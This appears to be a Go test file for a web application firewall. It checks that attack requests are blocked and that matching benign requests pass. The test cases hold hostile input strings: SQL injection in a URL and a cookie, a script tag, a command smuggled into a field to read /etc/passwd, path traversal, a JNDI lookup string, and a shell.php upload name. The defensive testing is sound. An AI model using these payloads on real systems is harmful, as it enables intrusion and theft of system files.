package waf

import (
	"testing"

	"github.com/apexlogic/apex/internal/clock"
	"github.com/apexlogic/apex/verdict"
)

// chat is an ordinary request for a completion, without its text.
func chat() *Request {
	return &Request{
		Method: "POST", URI: "/v1/chat/completions", Protocol: "HTTP/1.1",
		Headers: []Field{
			{"Host", "captioner.example"}, {"User-Agent", "openai-python/1.40.0"}, {"Accept", "application/json"},
			{"Content-Type", "application/json"}, {"Content-Length", "211"}, {"Authorization", "Bearer eyJhbGciOi.eyJzdWIiOi.c2ln"},
			{"Accept-Encoding", "gzip, deflate"}, {"Connection", "keep-alive"}, {"X-Stainless-Lang", "python"},
		},
		Fields: []Field{
			{"model", "captioner-small"}, {"messages.0.role", "user"}, {"messages.0.content", ""}, {"temperature", ""}, {"max_tokens", ""},
		},
	}
}

func newWAF(t testing.TB, p Profile) *WAF {
	t.Helper()
	w, err := New(p)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := w.Close(); err != nil {
			t.Error(err)
		}
	})
	return w
}

func TestStructureThatAttacksIsBlockedAndItsTwinPasses(t *testing.T) {
	w := newWAF(t, Strict(clock.System{}))
	for name, change := range map[string]struct{ attack, twin func(*Request) }{
		"SQL in a query argument": {
			func(r *Request) { r.URI += "?id=1'+OR+'1'='1'--+-" }, func(r *Request) { r.URI += "?id=1" }},
		"a script in a header": {
			func(r *Request) {
				r.Headers = append(r.Headers, Field{"Referer", "https://a.example/<script>alert(1)</script>"})
			},
			func(r *Request) { r.Headers = append(r.Headers, Field{"Referer", "https://a.example/page"}) }},
		"a command in a control field": {
			func(r *Request) { r.Fields[0].Value = "m; cat /etc/passwd" }, func(r *Request) { r.Fields[0].Value = "m" }},
		"a path that climbs": {
			func(r *Request) { r.URI = "/v1/files/../../../../etc/passwd" }, func(r *Request) { r.URI = "/v1/files/report" }},
		"a key that is JNDI": {
			func(r *Request) { r.Fields = append(r.Fields, Field{"${jndi:ldap://x.example/a}", ""}) },
			func(r *Request) { r.Fields = append(r.Fields, Field{"metadata", ""}) }},
		"a file's name that would run": {
			func(r *Request) { r.Files = []Field{{"file", "shell.php"}} }, func(r *Request) { r.Files = []Field{{"file", "photo.png"}} }},
		"a cookie with SQL": {
			func(r *Request) {
				r.Headers = append(r.Headers, Field{"Cookie", "s=1' UNION SELECT password FROM users--"})
			},
			func(r *Request) { r.Headers = append(r.Headers, Field{"Cookie", "s=1"}) }},
	} {
		t.Run(name, func(t *testing.T) {
			attack, twin := chat(), chat()
			change.attack(attack)
			change.twin(twin)
			if got := w.Check(attack); !got.Block || got.Code != verdict.WAFBlocked || len(got.Rules) == 0 {
				t.Errorf("the attack was answered %+v", got)
			}
			if got := w.Check(twin); got.Block || got.Score != 0 {
				t.Errorf("its twin was answered %+v", got)
			}
		})
	}
}

// clear forgets all results.
func (r *results) clear() {
	for i := range r.checks.shards {
		clear(r.checks.shards[i].kept)
		clear(r.scores.shards[i].kept)
	}
}
